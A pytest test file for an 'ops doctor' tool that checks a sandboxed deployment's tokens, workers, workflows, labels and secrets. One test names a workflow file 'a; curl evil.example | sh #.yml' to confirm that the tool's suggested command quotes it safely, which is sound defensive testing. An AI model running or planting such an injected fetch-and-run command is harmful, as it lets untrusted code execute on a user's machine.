"""`ops doctor`: right answers in a world with everything right, and one wrong answer for each fault."""

import json
import re
import shlex
import subprocess
import threading
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest

from ops.setup.doctor.examination import CHECKS
from tests.conftest import World
from tests.setup.doctor_changes import keep_secrets_of_the_repository, own_workflows
from tests.setup.doctor_faults import FAULTS, Fault
from tests.setup.doctor_other_answers import OTHER_ANSWERS, OtherAnswer
from tests.support.bakery import DATABASE, PERMISSIONS, PERSON, SITE, TOKEN, Bakery, add_branches, bakery, practice
from tests.support.in_process import answered_in_process, held

KV_READ = "/bulk/get"


class Killed(BaseException):
    """It ends a thread, and no handler of errors sees it."""


@pytest.fixture
def world(tmp_path: Path) -> Iterator[Bakery]:
    with bakery(tmp_path) as made:
        yield made


def answers(world: Bakery, *arguments: str) -> dict[str, set[str]]:
    """Return answer → ids of its checks."""
    found: dict[str, set[str]] = {"right": set(), "wrong": set(), "not_provable": set()}
    for each in world.results(*arguments):
        found[each["answer"]].add(each["id"])
    return found


@pytest.mark.slow
def test_every_check_answers_in_the_right_world_and_only_reads(world: Bakery) -> None:
    found = answers(world)

    assert found["right"] == {each.id for each in CHECKS}
    assert (found["wrong"], found["not_provable"]) == (set(), set())
    assert {request.method for request in world.sandbox.github.requests} == {"GET"}
    posts = [request.path for request in World(world.sandbox, world.folder).writes()]
    assert [path for path in posts if not path.endswith((KV_READ, "/graphql"))] == []


@pytest.mark.slow
@pytest.mark.parametrize("fault", FAULTS, ids=lambda fault: fault.name)
def test_fault_is_found_by_its_check_and_by_no_other(world: Bakery, fault: Fault) -> None:
    fault.apply(world)

    outcome = world.doctor("--json")

    checks = json.loads(outcome.out)["checks"]
    wrong = [each for each in checks if each["answer"] == "wrong"]
    assert {each["id"] for each in wrong} == {fault.check}
    assert outcome.code == 2
    assert all(each["text"] and each["why"] and each["fix"] + each["command"] for each in wrong)


def test_faults_cover_the_checks_and_the_audit() -> None:
    assert {each.check for each in FAULTS} == {each.id for each in CHECKS}
    assert len(FAULTS) >= 40
    assert sum(bool(each.finding) for each in FAULTS) >= 20


@pytest.mark.slow
def test_token_that_cannot_read_its_policies_proves_no_write(world: Bakery) -> None:
    world.sandbox.add_token(TOKEN, set(PERMISSIONS) - {"API Tokens Read"})

    outcome = world.doctor()

    assert outcome.code == 0
    assert re.search(r"^\? token-writes \(live\): .* Workers Scripts Write\b", outcome.out, re.MULTILINE)
    assert "? token-excess (live): " in outcome.out
    assert re.search(r"^0 wrong, 2 not provable here, \d+ right$", outcome.out, re.MULTILINE)


@pytest.mark.slow
def test_worker_with_one_release_has_nothing_to_roll_back_to_yet(world: Bakery) -> None:
    sandbox = world.sandbox
    sandbox.deploy("kiosk", sandbox.upload("kiosk", code="the first release"))
    kiosk = "{worker: kiosk, url: 'https://shop.bakery.example', probes: [{name: health, http: {path: /health}}]}"
    world.edit("      blog:\n", f"      kiosk: {kiosk}\n      blog:\n")

    outcome = world.doctor("--only", "rollback")

    assert outcome.code == 0
    assert "? rollback (live/kiosk): " in outcome.out
    assert "reverted commit" not in outcome.out


def test_hidden_repository_of_the_actions_is_not_provable(world: Bakery) -> None:
    """GitHub answers 404 for a private repository and for none."""
    world.edit("responders:", "github: {actions: bakery/none}\nresponders:")

    outcome = world.doctor("--only", "actions")

    assert outcome.code == 0
    assert re.search(r"\? actions: .*\bbakery/none\b", outcome.out)


@pytest.mark.slow
def test_readable_repository_of_the_actions_is_right(world: Bakery) -> None:
    world.edit("responders:", "github: {actions: acme/operations}\nresponders:")

    assert "actions" in answers(world, "--only", "actions")["right"]


@pytest.mark.slow
def test_run_of_a_laptop_proves_the_write_of_its_runbook(world: Bakery) -> None:
    world.sandbox.add_token(TOKEN, set(PERMISSIONS) - {"API Tokens Read"})
    for runbook in ("rollback-worker", "rollback-pages", "maintenance", "feature"):
        practice(world, timedelta(days=1), runbook=runbook, source="laptop")

    found = answers(world, "--only", "token-writes")

    assert "token-writes" in found["right"]


@pytest.mark.slow
def test_laptop_without_github_token_lists_what_it_cannot_prove(world: Bakery) -> None:
    world.environ["GITHUB_TOKEN"] = None

    outcome = world.doctor()

    assert outcome.code == 0
    (line,) = [each for each in outcome.out.splitlines() if "GITHUB_TOKEN" in each and each.startswith("?")]
    assert {"github", "labels", "secrets", "drill"} <= set(line[2:].partition(":")[0].split(", "))


def test_wrong_check_blocks_those_that_need_it(world: Bakery) -> None:
    world.sandbox.add_token(TOKEN, PERMISSIONS, expired=True)

    (token,) = world.results("--only", "token-valid")
    (worker,) = world.results("--only", "worker")

    assert (token["answer"], token["text"]) == ("wrong", "Cloudflare does not accept BAKERY_TOKEN")
    assert (worker["answer"], worker["blocked_by"]) == ("not_provable", "token-valid")


def test_check_that_raises_another_error_hides_no_other_answer(world: Bakery) -> None:
    """An action has a version with more digits than Python converts, which no check expects."""
    world.write(".github/workflows/own.yml", f"jobs:\n  a:\n    steps:\n      - uses: a/b@v{'1' * 5000}\n")

    outcome = world.doctor("--only", "action-runtimes", "--only", "labels")

    assert outcome.code == 0
    assert re.search(r"^\? action-runtimes: .*\bValueError\b", outcome.out, re.MULTILINE)
    assert "0 wrong, 1 not provable here, 1 right" in outcome.out


def test_folder_with_the_name_of_a_workflow_is_none(world: Bakery) -> None:
    (world.folder / ".github/workflows/folder.yml").mkdir()

    assert "action-runtimes" in answers(world, "--only", "action-runtimes")["right"]


def test_limits_in_another_encoding_have_a_line_to_correct(world: Bakery) -> None:
    file = world.folder / "limits.yml"
    file.write_bytes("# Brötchen\n".encode("latin-1") + file.read_bytes())

    outcome = world.doctor("--only", "limits-file")

    assert outcome.code == 2
    assert re.search(r"^✘ limits-file.*limits\.yml:1.*UTF-8", outcome.out, re.MULTILINE), outcome.out


def test_form_in_another_encoding_has_a_line_to_correct(world: Bakery) -> None:
    file = ".github/ISSUE_TEMPLATE/incident.yml"
    world.write(file, "")
    form = "name: Brötchen\nbody:\n".encode("latin-1")
    (world.folder / file).write_bytes(form)

    outcome = world.doctor("--only", "workflows")
    synced = World(world.sandbox, world.folder).ops("workflows", "sync", "--config", str(world.config))

    assert outcome.code == 2
    assert re.search(r"^✘ workflows.*incident\.yml:1 .*UTF-8.*0xf6", outcome.out, re.MULTILINE), outcome.out
    assert (synced.code, "incident.yml:1" in synced.err) == (2, True), synced.err
    assert (world.folder / file).read_bytes() == form


def test_unknown_check_is_refused_with_the_nearest(world: Bakery) -> None:
    outcome = world.doctor("--only", "lables")

    assert outcome.code == 2
    assert re.match('error: .*"lables".*"labels"', outcome.err)


@pytest.mark.slow
def test_unreachable_cloudflare_is_wrong_once(world: Bakery) -> None:
    world.sandbox.fault(status=502, times=None)

    found = answers(world)

    assert found["wrong"] == {"token-valid"}


def test_fix_writes_workflows_and_labels_and_nothing_else(world: Bakery) -> None:
    github = world.sandbox.github
    github.remove_label("sev1")
    world.edit("responders: [dana]", "responders: [dana, omar]")
    github.add_user("omar")

    outcome = world.doctor("--fix", *(each for name in ("labels", "workflows", "pushed") for each in ("--only", name)))

    assert "fixed: label sev1" in outcome.out
    assert "fixed: .github/workflows/incident.yml" in outcome.out
    assert {each.partition(" ")[2].partition(":")[0] for each in outcome.out.splitlines() if each.startswith("✘")} == {
        "pushed"
    }
    assert {request.path for request in github.requests if request.method != "GET"} == {"/repos/acme/operations/labels"}


@pytest.mark.slow
def test_fix_keeps_a_workflow_that_a_person_changed(world: Bakery) -> None:
    world.edit("timeout-minutes: 5", "timeout-minutes: 6", ".github/workflows/recover.yml")
    before = (world.folder / ".github/workflows/recover.yml").read_text()

    outcome = world.doctor("--fix", "--only", "workflows")

    assert (world.folder / ".github/workflows/recover.yml").read_text() == before
    assert outcome.code == 2


def test_fix_with_json_prints_one_result(world: Bakery) -> None:
    world.sandbox.github.remove_label("sev1")

    (labels,) = world.results("--fix", "--only", "labels")

    assert labels["answer"] == "right"


def test_label_of_an_approval_that_was_edited_is_found_and_corrected(world: Bakery) -> None:
    world.sandbox.github._repository.labels["approve:restore"].description = "Looks good"

    (found,) = world.results("--only", "labels")
    (fixed,) = world.results("--fix", "--only", "labels")

    assert (found["answer"], fixed["answer"]) == ("wrong", "right")
    assert "approve:restore" in json.dumps(found)


@pytest.mark.slow
def test_secret_is_masked_in_results_but_not_in_ids(world: Bakery) -> None:
    world.environ["OLD_MAIL_KEY"] = "secret"
    world.sandbox.github.put_secret("BAKERY_TOKEN", "of the repository", None)

    (found,) = [each for each in world.results() if each["answer"] == "wrong"]

    assert (found["id"], found["text"]) == ("repository-secrets", "the repository has the *** BAKERY_TOKEN")
    assert "secret" not in world.doctor().out.replace("repository-secrets", "")


@pytest.mark.slow
def test_database_without_migrations_is_not_wrong(world: Bakery) -> None:
    world.sandbox.d1.query(DATABASE, "DROP TABLE d1_migrations")

    found = answers(world)

    assert (found["wrong"], found["not_provable"]) == (set(), {"database-tables"})


@pytest.mark.slow
def test_command_quotes_the_name_of_a_file(world: Bakery) -> None:
    """Anyone who can push a branch can name a workflow."""
    world.write(".github/workflows/a; curl evil.example | sh #.yml", "on: push\njobs: {}\n")
    world.sandbox.github.disable_workflow(".github/workflows/a; curl evil.example | sh #.yml", "disabled_manually")

    (found,) = [each for each in world.results() if each["id"] == "workflows-enabled"]

    assert shlex.split(found["command"]) == ["gh", "workflow", "enable", "a; curl evil.example | sh #.yml"]


@pytest.mark.slow
def test_nine_workers_are_examined_at_once(world: Bakery) -> None:
    add_branches(world, 8)
    at_the_edge, at_the_api = threading.Barrier(9, timeout=30), threading.Barrier(6, timeout=30)
    world.sandbox.edge_fault(path="/health", times=9, before=at_the_edge.wait, is_prompt=True)
    world.sandbox.fault(path="**/scripts/*/settings", times=6, before=at_the_api.wait, is_prompt=True)

    with answered_in_process():
        found = answers(world)

    assert (found["wrong"], found["not_provable"]) == (set(), set())
    assert (at_the_edge.broken, at_the_api.broken) == (False, False)


@pytest.mark.slow
def test_repository_before_its_first_push_and_drill_has_no_wrong_answer(world: Bakery) -> None:
    github = world.sandbox.github
    github.add_commit("Remove", "dana", files=dict.fromkeys(github.files(), None))
    for issue in github.issues:
        issue.labels.clear()

    found = answers(world)

    assert (found["wrong"], found["not_provable"]) == (set(), {"pushed", "drill"})


@pytest.mark.slow
def test_private_repository_on_github_free_has_no_wrong_answer(world: Bakery) -> None:
    github = world.sandbox.github
    github.switches.plan = "free"
    keep_secrets_of_the_repository(world)

    found = answers(world)

    assert (found["wrong"], found["not_provable"]) == (set(), {"branch-protection", "workflow-review"})


def test_missing_ops_yml_is_wrong_once(world: Bakery) -> None:
    world.config.unlink()

    found = answers(world)

    assert found["wrong"] == {"config"}


@pytest.mark.slow
def test_service_that_hangs_delays_no_other_answer(world: Bakery) -> None:
    with held(world.sandbox.edge_faults, host="shop.bakery.example"):
        found = answers(world)

    assert (found["wrong"], found["not_provable"]) == (set(), {"url", "probes", "runtime"})


def test_repository_is_that_of_the_remote_origin(world: Bakery) -> None:
    world.environ |= {"GITHUB_REPOSITORY": None, "GITHUB_TOKEN": None, "GH_TOKEN": PERSON}
    for arguments in (["init", "--quiet"], ["remote", "add", "origin", "git@github.com:acme/operations.git"]):
        subprocess.run(["git", *arguments], cwd=world.folder, check=True)

    assert answers(world, "--only", "labels")["not_provable"] == set()


@pytest.mark.slow
def test_equal_content_of_one_commit_is_no_problem(world: Bakery) -> None:
    files = {"index.html": b"<h1>Bread</h1>", "version.txt": b"1"}
    world.sandbox.pages.add_deployment(SITE, files=files, commit="1" * 40)

    assert answers(world, "--only", "compare")["right"] == {"compare"}


@pytest.mark.slow
def test_cloudflare_that_hangs_is_wrong_once(world: Bakery) -> None:
    with held(world.sandbox.faults):
        found = answers(world, "--only", "token-valid", "--only", "worker")

    assert (found["wrong"], found["not_provable"]) == ({"token-valid"}, {"worker"})


def test_check_whose_thread_ends_delays_no_other_answer(world: Bakery) -> None:
    def die() -> None:
        raise Killed

    world.sandbox.github.fault(path="/repos/*/*/labels", before=die, times=None, is_prompt=True)

    outcome = world.doctor("--only", "labels", "--only", "workflows")

    assert re.search(r"^\? labels: .*\bKilled\b", outcome.out, re.MULTILINE), outcome.out


@pytest.mark.slow
@pytest.mark.parametrize("state", OTHER_ANSWERS, ids=lambda state: state.name)
def test_state_gets_the_other_answer_of_its_check(world: Bakery, state: OtherAnswer) -> None:
    state.apply(world)

    (found,) = [each for each in world.results("--only", state.check) if each["answer"] != "right"]

    assert (found["id"], found["answer"], found["blocked_by"]) == (state.check, state.answer, "")
    assert state.fact in found["text"]


def test_owner_of_the_workflows_reviews_their_changes(world: Bakery) -> None:
    own_workflows(world)

    assert [
        each["answer"] for each in world.results("--only", "workflow-review") if each["id"] == "workflow-review"
    ] == ["right"]
